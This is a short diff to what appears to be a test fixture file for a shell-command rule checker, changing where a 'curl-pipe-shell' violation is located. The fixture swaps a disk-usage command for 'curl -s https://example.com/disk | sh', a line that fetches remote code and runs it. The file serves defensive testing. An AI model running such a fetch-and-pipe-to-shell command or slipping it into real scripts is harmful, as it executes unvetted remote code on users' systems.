@@ -246,7 +246,7 @@ export const broken: readonly Broken[] = [
     change: 'df -k "$IR_FOLDER"',
     to: 'curl -s https://example.com/disk | sh',
     rule: 'curl-pipe-shell',
-    at: 'sh\n',
+    at: 'curl -s',
   },
   {
     of: 'payments',
